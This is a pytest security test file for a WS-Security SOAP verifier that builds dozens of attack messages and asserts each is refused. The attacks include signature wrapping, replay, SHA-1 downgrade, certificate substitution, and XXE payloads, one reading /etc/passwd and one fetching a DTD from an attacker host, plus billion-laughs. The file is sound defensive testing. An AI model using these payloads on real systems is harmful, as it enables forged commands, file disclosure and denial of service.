"""Every attack here must be refused with the right WS-Security fault, and nothing returned.

Run: .venv/bin/python -m pytest tests/security/test_attacks.py -q   (docs/security.md has the table)
"""
from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import signxml
import xmlsec
from lxml import etree

from soapbus.message import soap
from soapbus.security import (FAILED_AUTHENTICATION, FAILED_CHECK, INVALID_SECURITY, INVALID_SECURITY_TOKEN,
                              MESSAGE_EXPIRED, SecurityFault, check_source_binding, crypto, ns)
from soapbus.security.timestamp import format_utc

from . import attacks_encoding as encoding
from .support import (PROFILE_NS, add_reference, body, command, downgrade_to_sha1, envelope, evil_body, minutes, one,
                      resign, security, signature, signed, utcnow, wire, xmlsec_alone_accepts)

ATTACKER = "urn:attacker"


@dataclass(frozen=True)
class Lab:
    keys: object
    pki: object


@dataclass(frozen=True)
class Attack:
    id: str
    build: Callable  # (lab, verifier) -> bytes on the wire
    code: str
    because: str  # a fragment of the fault reason: proves which check refused it
    # True when the attack carries a signature a bare xmlsec check accepts, so that only the
    # Verifier's own checks (structure, algorithms, comments) stand in the way.
    signature_valid: bool = False
    signer: str = "mdms"  # whose certificate that bare check is given


def accept(verifier, data: bytes):
    """The receiving pipeline: verify, then bind the signer to the Source it claims."""
    verified = verifier.verify(data)
    check_source_binding(verified, verified.source)
    return verified


# ---------------------------------------------------------------- signature wrapping


def _swap_body(env) -> tuple[etree._Element, etree._Element]:
    """Put an unsigned evil Body where the signed one was; return (signed original, evil)."""
    original = body(env)
    fake = evil_body(env)
    env.replace(original, fake)
    return original, fake


def _soap_header(env):
    return one(env, "/soapenv:Envelope/soapenv:Header")


def wrap_body_under_header(lab, v):
    env = signed(lab.keys.mdms)
    original, _ = _swap_body(env)
    etree.SubElement(_soap_header(env), f"{{{ATTACKER}}}Wrapper").append(original)
    return wire(env)


def wrap_body_in_ds_object(lab, v):
    env = signed(lab.keys.mdms)
    sig = signature(env)
    original, _ = _swap_body(env)
    etree.SubElement(sig, f"{{{ns.DS}}}Object").append(original)
    return wire(env)


def wrap_body_in_security_header(lab, v):
    env = signed(lab.keys.mdms)
    sec = security(env)
    original, _ = _swap_body(env)
    etree.SubElement(sec, f"{{{ATTACKER}}}Wrapper").append(original)
    return wire(env)


def wrap_body_inside_new_body(lab, v):
    env = signed(lab.keys.mdms)
    original, fake = _swap_body(env)
    fake.append(original)
    return wire(env)


def signed_body_copy_in_payload(lab, v):
    env = signed(lab.keys.mdms)
    original, fake = _swap_body(env)
    payload = fake.xpath("//*[local-name()='Payload']")[0]
    payload.append(original)
    return wire(env)


def second_body_after(lab, v):
    env = signed(lab.keys.mdms)
    env.append(evil_body(env))
    return wire(env)


def second_body_before(lab, v):
    env = signed(lab.keys.mdms)
    body(env).addprevious(evil_body(env))
    return wire(env)


def duplicate_wsu_id(lab, v):
    env = signed(lab.keys.mdms)
    original, fake = _swap_body(env)
    fake.set(ns.WSU_ID, original.get(ns.WSU_ID))
    etree.SubElement(_soap_header(env), f"{{{ATTACKER}}}Wrapper").append(original)
    return wire(env)


def duplicate_id_other_attribute(lab, v):
    env = signed(lab.keys.mdms)
    original, fake = _swap_body(env)
    fake.set("Id", original.get(ns.WSU_ID))  # no namespace: some verifiers look this one up first
    etree.SubElement(_soap_header(env), f"{{{ATTACKER}}}Wrapper").append(original)
    return wire(env)


def id_moved_to_child(lab, v):
    env = signed(lab.keys.mdms)
    b = body(env)
    b[0].set(ns.WSU_ID, b.attrib.pop(ns.WSU_ID))
    return wire(env)


def reference_to_envelope(lab, v):
    env = signed(lab.keys.mdms)
    env.set(ns.WSU_ID, "whole-envelope")
    add_reference(env, "#whole-envelope", (xmlsec.Transform.ENVELOPED, xmlsec.Transform.EXCL_C14N))
    return wire(resign(env, lab.keys.mdms))


def reference_to_security_header(lab, v):
    env = signed(lab.keys.mdms)
    security(env).set(ns.WSU_ID, "sec")
    add_reference(env, "#sec", (xmlsec.Transform.ENVELOPED, xmlsec.Transform.EXCL_C14N))
    return wire(resign(env, lab.keys.mdms))


def reference_whole_document(lab, v):
    env = signed(lab.keys.mdms)
    add_reference(env, "", (xmlsec.Transform.ENVELOPED, xmlsec.Transform.EXCL_C14N))
    return wire(resign(env, lab.keys.mdms))


def reference_xpointer(lab, v):
    env = signed(lab.keys.mdms)
    body_id = body(env).get(ns.WSU_ID)
    ref = signature(env).find(f".//{{{ns.DS}}}Reference[@URI='#{body_id}']")
    ref.set("URI", f"#xpointer(id('{body_id}'))")
    return wire(resign(env, lab.keys.mdms))


def xpath_transform_hides_command(lab, v):
    env = signed(lab.keys.mdms)
    ref = signature(env).find(f".//{{{ns.DS}}}Reference[@URI='#{body(env).get(ns.WSU_ID)}']")
    transforms = ref.find(f"{{{ns.DS}}}Transforms")
    xpath = etree.Element(f"{{{ns.DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(xpath, f"{{{ns.DS}}}XPath", nsmap={"edc": PROFILE_NS}).text = \
        "not(ancestor-or-self::edc:command)"
    transforms.insert(0, xpath)
    # The separate 61968 Header reference does not reach the command: only the filtered Body
    # reference digests it, and the filter leaves it out.
    resign(env, lab.keys.mdms)
    command(env).text = "disconnect ALL meters"
    return wire(env)


def comment_splits_signed_text(lab, v):
    env = signed(lab.keys.mdms)
    cmd = command(env)
    # Canonical form is unchanged ("disconnect meter 42"); naive `.text` reads "disconnect meter 4".
    cmd.text = "disconnect meter 4"
    comment = etree.Comment("")
    comment.tail = "2"
    cmd.append(comment)
    return wire(env)


def processing_instruction_in_signed_part(lab, v):
    env = signed(lab.keys.mdms)
    cmd = command(env)
    cmd.text = "disconnect meter 4"
    pi = etree.ProcessingInstruction("attacker", "x")
    pi.tail = "2"
    cmd.append(pi)
    return wire(env)


def whitespace_added_to_signed_text(lab, v):
    env = signed(lab.keys.mdms)
    command(env).text = " disconnect meter 42"
    return wire(env)


def carriage_return_in_signed_text(lab, v):
    env = signed(lab.keys.mdms)
    command(env).text = "disconnect meter 4\r2"
    return wire(env)


def timestamp_moved_out(lab, v):
    env = signed(lab.keys.mdms, now=utcnow() - minutes(30))
    sec = security(env)
    old = one(env, "//wsse:Security/wsu:Timestamp")
    fresh = copy.deepcopy(old)
    del fresh.attrib[ns.WSU_ID]
    fresh[0].text, fresh[1].text = _stamp_texts(utcnow(), minutes(5))
    sec.replace(old, fresh)
    etree.SubElement(_soap_header(env), f"{{{ATTACKER}}}Wrapper").append(old)
    return wire(env)


def second_security_header(lab, v):
    env = signed(lab.keys.mdms)
    extra = etree.SubElement(_soap_header(env), ns.SECURITY)
    unsigned_stamp = copy.deepcopy(one(env, "//wsse:Security/wsu:Timestamp"))
    del unsigned_stamp.attrib[ns.WSU_ID]
    extra.append(unsigned_stamp)
    return wire(env)


def second_signature(lab, v):
    env = signed(lab.keys.mdms)
    security(env).append(copy.deepcopy(signature(env)))
    return wire(env)


# ---------------------------------------------------------------- tokens and trust


def token_outside_security(lab, v):
    env = signed(lab.keys.mdms)
    token = one(env, "//wsse:BinarySecurityToken")
    etree.SubElement(_soap_header(env), f"{{{ATTACKER}}}Wrapper").append(token)
    return wire(env)


def garbage_token(lab, v):
    env = signed(lab.keys.mdms)
    one(env, "//wsse:BinarySecurityToken").text = base64.b64encode(b"not a certificate").decode()
    return wire(env)


def wrong_key(lab, v):
    # Signed with OMS's key, but the token carries MDMS's certificate.
    env = signed(lab.keys.oms)
    one(env, "//wsse:BinarySecurityToken").text = base64.b64encode(lab.keys.mdms.certificate_der).decode()
    return wire(env)


def self_signed_certificate(lab, v):
    return wire(signed(lab.keys.selfsigned))


def untrusted_ca_certificate(lab, v):
    return wire(signed(lab.keys.untrusted))


def expired_certificate(lab, v):
    return wire(signed(lab.keys.expired))


def ca_certificate_as_signer(lab, v):
    return wire(signed(lab.keys.ca))


def certificate_of_another_source(lab, v):
    # A valid, trusted OMS certificate signing a message that claims to come from MDMS.
    return wire(signed(lab.keys.oms, source="MDMS"))


def unknown_issuer_serial(lab, v):
    # The server certificate is trusted by chain, but not known to the receiver by IssuerSerial.
    return wire(signed(lab.keys.server, key_reference="issuer_serial"))


# ---------------------------------------------------------------- replay and time


def replayed_message(lab, v):
    data = wire(signed(lab.keys.mdms))
    accept(v, data)
    return data


def replayed_nonce(lab, v):
    accept(v, wire(signed(lab.keys.mdms, nonce="n-1")))
    return wire(signed(lab.keys.mdms, nonce="n-1"))  # fresh Timestamp, fresh signature, same Nonce


def expired_timestamp(lab, v):
    return wire(signed(lab.keys.mdms, now=utcnow() - minutes(10)))


def future_timestamp(lab, v):
    return wire(signed(lab.keys.mdms, now=utcnow() + minutes(10)))


def overlong_timestamp(lab, v):
    # Expires is an hour after Created, but we accept at most 300 s from Created.
    return wire(signed(lab.keys.mdms, now=utcnow() - minutes(6), ttl=3600))


def _stamp_texts(created, ttl):
    return format_utc(created), format_utc(created + ttl)


def timestamp_without_created(lab, v):
    env = signed(lab.keys.mdms)
    created = one(env, "//wsu:Timestamp/wsu:Created")
    created.getparent().remove(created)
    return wire(resign(env, lab.keys.mdms))


def timestamp_without_expires(lab, v):
    env = signed(lab.keys.mdms)
    expires = one(env, "//wsu:Timestamp/wsu:Expires")
    expires.getparent().remove(expires)
    return wire(resign(env, lab.keys.mdms))


def two_timestamps(lab, v):
    env = signed(lab.keys.mdms)
    second = copy.deepcopy(one(env, "//wsse:Security/wsu:Timestamp"))
    second.set(ns.WSU_ID, "TS-second")
    signature(env).addprevious(second)
    return wire(resign(env, lab.keys.mdms))


# ---------------------------------------------------------------- algorithms


def sha1_downgrade(lab, v):
    return wire(downgrade_to_sha1(signed(lab.keys.mdms), lab.keys.mdms))


def sha1_digests_only(lab, v):
    env = signed(lab.keys.mdms)
    for method in signature(env).iter(f"{{{ns.DS}}}DigestMethod"):
        method.set("Algorithm", ns.SHA1)
    return wire(resign(env, lab.keys.mdms))


def c14n_with_comments(lab, v):
    env = signed(lab.keys.mdms)
    for transform in signature(env).iter(f"{{{ns.DS}}}Transform"):
        transform.set("Algorithm", ns.EXC_C14N + "WithComments")
    return wire(resign(env, lab.keys.mdms))


# ---------------------------------------------------------------- tampering


def tampered_body(lab, v):
    env = signed(lab.keys.mdms)
    command(env).text = "disconnect ALL meters"
    return wire(env)


def tampered_61968_header(lab, v):
    env = signed(lab.keys.mdms)
    one(env, "//m:Header/m:MessageID").text = "00000000-0000-0000-0000-000000000000"
    return wire(env)


def tampered_timestamp(lab, v):
    env = signed(lab.keys.mdms)
    one(env, "//wsu:Timestamp/wsu:Expires").text = _stamp_texts(utcnow(), minutes(4))[1]
    return wire(env)


def tampered_signed_info(lab, v):
    env = signed(lab.keys.mdms)
    digest = signature(env).find(f".//{{{ns.DS}}}DigestValue")
    digest.text = base64.b64encode(bytes(32)).decode()
    return wire(env)


# ---------------------------------------------------------------- parsing


def _with_doctype(doctype: str, entity_use: str = "") -> bytes:
    data = wire(envelope()).decode("utf-8").split("?>", 1)[1]
    if entity_use:
        data = data.replace("disconnect meter 42", entity_use)
    return f'<?xml version="1.0"?>\n{doctype}\n{data}'.encode()


def xxe_external_entity(lab, v):
    return _with_doctype('<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")


def external_dtd(lab, v):
    return _with_doctype('<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">')


def billion_laughs(lab, v):
    entities = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    return _with_doctype(f"<!DOCTYPE soapenv:Envelope [{''.join(entities)}]>", "&l9;")


def parameter_entity_reads_dev_zero(lab, v):
    # parse_bytes alone would read /dev/zero for ever; the prolog check refuses it first.
    return _with_doctype('<!DOCTYPE soapenv:Envelope [<!ENTITY % z SYSTEM "file:///dev/zero"> %z;]>')


def oversized_message(lab, v):
    return wire(signed(lab.keys.mdms, command="x" * (10 * 1024 * 1024 + 1)))


ATTACKS = [
    Attack("wrap_body_under_header", wrap_body_under_header, INVALID_SECURITY, "does not cover the soap:Body", True),
    Attack("wrap_body_in_ds_object", wrap_body_in_ds_object, INVALID_SECURITY, "ds:Object"),
    Attack("wrap_body_in_security_header", wrap_body_in_security_header, INVALID_SECURITY,
           "does not cover the soap:Body", True),
    Attack("wrap_body_inside_new_body", wrap_body_inside_new_body, INVALID_SECURITY,
           "does not cover the soap:Body", True),
    Attack("signed_body_copy_in_payload", signed_body_copy_in_payload, INVALID_SECURITY,
           "does not cover the soap:Body", True),
    Attack("second_body_after", second_body_after, INVALID_SECURITY, "exactly one soap:Body"),
    Attack("second_body_before", second_body_before, INVALID_SECURITY, "exactly one soap:Body"),
    Attack("duplicate_wsu_id", duplicate_wsu_id, INVALID_SECURITY, "duplicate Ids"),
    Attack("duplicate_id_other_attribute", duplicate_id_other_attribute, INVALID_SECURITY, "duplicate Ids", True),
    Attack("id_moved_to_child", id_moved_to_child, INVALID_SECURITY, "does not cover the soap:Body"),
    Attack("reference_to_envelope", reference_to_envelope, INVALID_SECURITY, "contains the signature itself", True),
    Attack("reference_to_security_header", reference_to_security_header, INVALID_SECURITY,
           "contains the signature itself", True),
    Attack("reference_whole_document", reference_whole_document, INVALID_SECURITY,
           "same-document '#id' reference", True),
    Attack("reference_xpointer", reference_xpointer, INVALID_SECURITY, "same-document '#id' reference", True),
    Attack("xpath_transform_hides_command", xpath_transform_hides_command, INVALID_SECURITY,
           "REC-xpath-19991116' is not accepted", True),
    Attack("comment_splits_signed_text", comment_splits_signed_text, INVALID_SECURITY, "holds a comment", True),
    Attack("processing_instruction_in_signed_part", processing_instruction_in_signed_part, INVALID_SECURITY,
           "processing instruction"),
    Attack("whitespace_added_to_signed_text", whitespace_added_to_signed_text, FAILED_CHECK, "does not verify"),
    Attack("carriage_return_in_signed_text", carriage_return_in_signed_text, FAILED_CHECK, "does not verify"),
    Attack("timestamp_moved_out", timestamp_moved_out, INVALID_SECURITY, "does not cover the wsu:Timestamp", True),
    Attack("second_security_header", second_security_header, INVALID_SECURITY, "exactly one wsse:Security", True),
    Attack("second_signature", second_signature, INVALID_SECURITY, "exactly one ds:Signature"),
    Attack("token_outside_security", token_outside_security, INVALID_SECURITY_TOKEN,
           "BinarySecurityToken of this wsse:Security"),
    Attack("garbage_token", garbage_token, INVALID_SECURITY_TOKEN, "does not hold a DER X.509 certificate"),
    Attack("wrong_key", wrong_key, FAILED_CHECK, "does not verify"),
    Attack("self_signed_certificate", self_signed_certificate, FAILED_AUTHENTICATION, "does not chain to a trusted CA"),
    Attack("untrusted_ca_certificate", untrusted_ca_certificate, FAILED_AUTHENTICATION,
           "does not chain to a trusted CA"),
    Attack("expired_certificate", expired_certificate, FAILED_AUTHENTICATION, "expired on"),
    Attack("ca_certificate_as_signer", ca_certificate_as_signer, FAILED_AUTHENTICATION, "is a CA certificate"),
    Attack("certificate_of_another_source", certificate_of_another_source, FAILED_AUTHENTICATION,
           "claims Source 'MDMS'"),
    Attack("unknown_issuer_serial", unknown_issuer_serial, INVALID_SECURITY_TOKEN, "no certificate known"),
    Attack("replayed_message", replayed_message, INVALID_SECURITY, "already accepted once"),
    Attack("replayed_nonce", replayed_nonce, INVALID_SECURITY, "Nonce 'n-1' was already used"),
    Attack("replayed_ecdsa_negated_s", encoding.replayed_ecdsa_negated_s, INVALID_SECURITY, "already accepted once",
           True, "ecdsa"),
    Attack("replayed_base64_spare_bits", encoding.replayed_base64_spare_bits, INVALID_SECURITY,
           "already accepted once", True),
    Attack("replayed_base64_rewrapped", encoding.replayed_base64_rewrapped, INVALID_SECURITY, "already accepted once",
           True),
    Attack("default_namespace_rebound_outside", encoding.default_namespace_rebound_outside, FAILED_CHECK,
           "does not verify"),
    Attack("undeclaration_injected", encoding.undeclaration_injected, FAILED_CHECK, "does not verify"),
    Attack("default_namespace_listed_then_rebound", encoding.default_namespace_listed_then_rebound, FAILED_CHECK,
           "does not verify"),
    Attack("expired_timestamp", expired_timestamp, MESSAGE_EXPIRED, "the message expired"),
    Attack("future_timestamp", future_timestamp, MESSAGE_EXPIRED, "ahead of our clock"),
    Attack("overlong_timestamp", overlong_timestamp, MESSAGE_EXPIRED, "at most 300 s"),
    Attack("timestamp_without_created", timestamp_without_created, INVALID_SECURITY, "exactly one wsu:Created", True),
    Attack("timestamp_without_expires", timestamp_without_expires, INVALID_SECURITY, "exactly one wsu:Expires", True),
    Attack("two_timestamps", two_timestamps, INVALID_SECURITY, "exactly one wsu:Timestamp", True),
    Attack("sha1_downgrade", sha1_downgrade, INVALID_SECURITY, "SignatureMethod", True),
    Attack("sha1_digests_only", sha1_digests_only, INVALID_SECURITY, "DigestMethod", True),
    Attack("c14n_with_comments", c14n_with_comments, INVALID_SECURITY, "WithComments' is not accepted", True),
    Attack("tampered_body", tampered_body, FAILED_CHECK, "does not verify"),
    Attack("tampered_61968_header", tampered_61968_header, FAILED_CHECK, "does not verify"),
    Attack("tampered_timestamp", tampered_timestamp, FAILED_CHECK, "does not verify"),
    Attack("tampered_signed_info", tampered_signed_info, FAILED_CHECK, "does not verify"),
    Attack("xxe_external_entity", xxe_external_entity, INVALID_SECURITY, "DOCTYPE"),
    Attack("external_dtd", external_dtd, INVALID_SECURITY, "DOCTYPE"),
    Attack("billion_laughs", billion_laughs, INVALID_SECURITY, "entity amplification"),
    Attack("parameter_entity_reads_dev_zero", parameter_entity_reads_dev_zero, INVALID_SECURITY, "DOCTYPE"),
    Attack("oversized_message", oversized_message, INVALID_SECURITY, "at most 10485760 are accepted"),
]


@pytest.fixture
def lab(keys, test_pki) -> Lab:
    return Lab(keys, test_pki)


def test_the_untouched_message_is_accepted(lab, verifier):
    """The control: every attack below starts from this message, which the pipeline accepts."""
    verified = accept(verifier, wire(signed(lab.keys.mdms)))
    assert verified.source == "MDMS"


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_attack_is_refused(attack, lab, verifier):
    data = attack.build(lab, verifier)
    result = None
    with pytest.raises(SecurityFault) as caught:
        result = accept(verifier, data)
    assert result is None
    assert caught.value.code == attack.code, caught.value.reason
    assert attack.because in caught.value.reason
    fault = soap.read_fault(caught.value.fault_envelope())
    assert fault.code == attack.code and fault.reason == caught.value.reason


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_attack_is_refused_alike_when_xmlsec_checks_the_signature(attack, lab, verifier, monkeypatch):
    """The digests and signature value are computed by soapbus; xmlsec, which did it before, agrees."""
    monkeypatch.setattr(crypto, "reference_octets", lambda element, ref: None)  # every check goes to xmlsec
    test_attack_is_refused(attack, lab, verifier)


SIGNATURE_STILL_VALID = [a for a in ATTACKS if a.signature_valid]


@pytest.mark.parametrize("attack", SIGNATURE_STILL_VALID, ids=[a.id for a in SIGNATURE_STILL_VALID])
def test_a_bare_signature_check_would_accept_it(attack, lab, verifier, test_pki):
    """These attacks carry a cryptographically valid signature: our other checks are what stop them."""
    data = attack.build(lab, verifier)
    assert xmlsec_alone_accepts(data, getattr(test_pki, attack.signer).cert.read_bytes())


@pytest.mark.parametrize("shape", encoding.UNTOUCHED)
def test_the_namespace_shapes_are_accepted_as_signed(shape, lab, verifier):
    """The controls of the namespace attacks: as their signer sent them, these messages are accepted."""
    assert accept(verifier, encoding.UNTOUCHED[shape](lab)).source == "MDMS"


def test_stock_signxml_accepts_a_wrapped_body_that_we_refuse(lab, verifier, test_pki):
    """Why we check WHAT was signed: signxml verifies the moved Body and never looks at the real one."""
    data = wrap_body_under_header(lab, verifier)
    results = signxml.XMLVerifier().verify(data, x509_cert=test_pki.mdms.cert.read_text(), expect_references=3)
    signed_tags = {r.signed_xml.tag for r in results}
    assert f"{{{ns.SOAP11_ENV}}}Body" in signed_tags  # "the Body is signed" ...
    real_body = etree.fromstring(data).find(f"{{{ns.SOAP11_ENV}}}Body")
    assert real_body.xpath("string(.//*[local-name()='command'])").startswith("disconnect ALL")  # ... but not this one
    with pytest.raises(SecurityFault) as caught:
        verifier.verify(data)
    assert caught.value.code == INVALID_SECURITY


def test_every_attack_is_in_the_documented_table():
    doc = (Path(__file__).resolve().parents[2] / "docs" / "security.md").read_text()
    section = doc.split("\n## Attack tests\n", 1)[1].split("\n## ", 1)[0]  # other sections have tables too
    rows = {line.split("|")[4].strip().strip("`"): line for line in section.splitlines()
            if line.startswith("|") and line.count("|") == 5 and line.split("|")[4].strip().startswith("`")}
    assert set(rows) == {a.id for a in ATTACKS}
    for attack in ATTACKS:
        assert f"| {attack.code.split(':')[1]} |" in rows[attack.id], attack.id
        assert ("†" in rows[attack.id]) == attack.signature_valid, attack.id
